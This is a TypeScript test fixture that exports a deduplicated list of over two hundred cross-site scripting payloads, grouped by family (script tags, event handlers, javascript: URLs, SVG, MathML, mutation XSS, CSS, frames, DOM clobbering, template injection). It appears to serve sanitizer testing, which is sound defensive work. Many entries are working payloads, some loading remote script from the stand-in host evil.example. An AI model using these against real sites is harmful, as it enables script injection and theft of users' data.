/**
 * Known ways to inject a script, a request or a style: over two hundred, by family. Most of them call `alert` or
 * `evil.example` if they work, which a test can observe.
 */
const scripts: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT>alert(1)</SCRIPT>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=//evil.example/x.js></script>',
  '<script src="https://evil.example/x.js" async></script>',
  '<script/src=data:,alert(1)></script>',
  '<script\n>alert(1)</script\n>',
  '<script/x>alert(1)</script>',
  '<script type=module>import("//evil.example")</script>',
  '<script type="text/javascript">alert(1)//',
  '<<script>alert(1)//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</noscript><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  '<script>alert`1`</script>',
  '<script>\u2028alert(1)</script>',
  '<script x="</script>">alert(1)</script>',
  '<script nonce="">alert(1)</script>',
  '<noscript><p title="</noscript><script>alert(1)</script>"></noscript>',
];

const EVENTS = [
  'onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onblur', 'onanimationstart', 'onanimationend',
  'ontransitionend', 'onpointerenter', 'onpointerover', 'onwheel', 'ontoggle', 'onbeforetoggle', 'onscroll', 'onscrollend',
  'oncopy', 'onpaste', 'oncut', 'ondrag', 'ondrop', 'onbeforeinput', 'oninput', 'onchange', 'onsubmit', 'onkeydown',
  'oncontextmenu', 'onauxclick', 'onbegin', 'onmessage',
] as const; // prettier-ignore
const handlers: readonly string[] = [
  ...EVENTS.map((event) => `<p ${event}=alert(1) tabindex=1>x</p>`),
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)">',
  "<img src=x onerror='alert(1)'>",
  '<img src=x onerror=alert`1`>',
  '<img/src=x/onerror=alert(1)>',
  '<img\tsrc=x\tonerror=alert(1)>',
  '<img src=x oNeRrOr=alert(1)>',
  '<img src=x onerror\n=alert(1)>',
  '<img src=x onerror=\u0061lert(1)>',
  '<img src=x onerror=&#97;lert(1)>',
  '<img src=x onerror=&#x61;&#x6c;ert(1)>',
  '<img """><img src=x onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img src=x:x onerror=alert(1) //',
  '<image src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<body onpageshow=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<button autofocus onfocus=alert(1)>x</button>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video src=x onerror=alert(1)></video>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<a onclick=alert(1) href=#>x</a>',
  '<span data-blank="a" onclick=alert(1)>____</span>',
  '<td onmouseover=alert(1)>x',
  '<x onclick=alert(1)>x</x>',
];

const urls: readonly string[] = [
  'javascript:alert(1)', 'JavaScript:alert(1)', ' javascript:alert(1)', '\tjavascript:alert(1)',
  'java\nscript:alert(1)', 'java\tscript:alert(1)', '\u0001javascript:alert(1)', 'javascript&colon;alert(1)',
  'javascript&#58;alert(1)', '&#106;avascript:alert(1)', '&#x6A;avascript:alert(1)', 'jav&#x09;ascript:alert(1)',
  'jav&#x0A;ascript:alert(1)', 'javascript://%0aalert(1)', 'javascript:/*--></title>*/alert(1)', 'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'DATA:text/html,x', 'blob:https://evil.example/1', 'file:///etc/passwd', 'view-source:javascript:alert(1)',
  'feed:javascript:alert(1)', '//evil.example/x', '\\\\evil.example\\x', '/\\evil.example/x', '\u200bjavascript:alert(1)',
  '\ufeffjavascript:alert(1)',
].map((url) => `<a href="${url}">x</a>`); // prettier-ignore

const pictures: readonly string[] = [
  'javascript:alert(1)', 'data:image/svg+xml,<svg onload=alert(1)>', 'data:text/html,x', '//evil.example/x.png',
  'vbscript:x', 'jav\tascript:alert(1)', 'blob:x', 'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+',
].map((url) => `<img src="${url}">`); // prettier-ignore

const svg: readonly string[] = [
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:,alert(1)"/></svg>',
  '<svg><script xlink:href="//evil.example/x"/></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=10>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<svg><set attributeName=onmouseover to=alert(1)></svg>',
  '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
  '<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<svg><image href=x onerror=alert(1) /></svg>',
  '<svg><style>@import "//evil.example/x.css"</style></svg>',
  '<svg><title><img src=x onerror=alert(1)></title></svg>',
  '<svg><desc><script>alert(1)</script></desc></svg>',
  '<svg><handler xmlns:ev="x" ev:event="load">alert(1)</handler></svg>',
];

const maths: readonly string[] = [
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<math><mglyph src=x onerror=alert(1)></math>',
];

const mutations: readonly string[] = [
  '<noscript><style></noscript><img src=x onerror=alert(1)></style>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>',
  '<svg><style><img title="</style><img src=x onerror=alert(1)>"></svg>',
  '<p id="</title><img src=x onerror=alert(1)>">',
  '<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<template><img src=x onerror=alert(1)></template>',
  '<template><s><template><s><img src=x onerror=alert(1)>@shafigullin</s></template></s></template>',
  '<select><style></select><img src=x onerror=alert(1)></style>',
  '<table><td><svg><table><td><img src=x onerror=alert(1)>',
  '<a href="x`">`<img src=x onerror=alert(1)></a>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--!><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;',
  '<b <script>alert(1)</script>0',
  '<div id="<"><img src=x onerror=alert(1)>">',
  '<title><a href="</title><img src=x onerror=alert(1)>"></title>',
];

const styles: readonly string[] = [
  'background:url(javascript:alert(1))', 'background-image:url(//evil.example/x)', 'width:expression(alert(1))',
  'behavior:url(x.htc)', '-moz-binding:url(//evil.example/x#y)', '@import "//evil.example/x"',
  'position:fixed;top:0;left:0;width:9999px;height:9999px', 'color:red;background:u\\72l(//evil.example/x)',
  'list-style:url(//evil.example/x)', 'content:url(//evil.example/x)', 'cursor:url(//evil.example/x),auto',
  'font-size:99999px', 'filter:url(//evil.example/x#y)', 'animation:x 1s', 'color:red/**/;top:0;position:absolute',
].map((style) => `<p style='${style}'>x</p>`); // prettier-ignore
const sheets: readonly string[] = [
  '<style>*{display:none}</style>',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<link rel=import href=//evil.example/x>',
  '<link rel=preload as=script href=//evil.example/x.js>',
];

const embedded: readonly string[] = [
  '<iframe src=javascript:alert(1)></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src=//evil.example></iframe>',
  '<object data=javascript:alert(1)></object>',
  '<object data=//evil.example/x.swf></object>',
  '<embed src=//evil.example/x>',
  '<embed src=javascript:alert(1)>',
  '<applet code=x></applet>',
  '<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>',
  '<portal src=//evil.example></portal>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action=javascript:alert(1)><button>x</button></form>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<isindex action=javascript:alert(1) type=image>',
  '<input type=image src=x onerror=alert(1)>',
  '<video poster=javascript:alert(1)></video>',
  '<body background=javascript:alert(1)>',
  '<table background=javascript:alert(1)><tr><td>x</table>',
  '<a href=# ping=//evil.example>x</a>',
  '<img srcset="//evil.example/x 1x" src=/x>',
  '<img src=/x usemap=#m><map name=m><area href=javascript:alert(1)></map>',
];

const clobbering: readonly string[] = [
  '<a id=attributes name=nodeName href=/x>x</a>',
  '<form><input name=attributes></form>',
  '<form id=body><input name=innerHTML></form>',
  '<img name=getElementById src=/x>',
  '<a id=__proto__ href=/x>x</a>',
];

const templates: readonly string[] = [
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<%= alert(1) %>',
  '#{alert(1)}',
  '[[FORM-CREATE-PREFIX-function(){alert(1)}-FORM-CREATE-SUFFIX]]',
  '<p v-html="alert(1)" :onclick="x" @click="alert(1)">x</p>',
  '<div ng-app ng-csp><div ng-click=$event.view.alert(1)>x</div></div>',
  '<p is="x-y" slot=x part=y popover>x</p>',
];

export const XSS_PAYLOADS: readonly string[] = [
  ...new Set([
    ...scripts,
    ...handlers,
    ...urls,
    ...pictures,
    ...svg,
    ...maths,
    ...mutations,
    ...styles,
    ...sheets,
    ...embedded,
    ...clobbering,
    ...templates,
  ]),
];
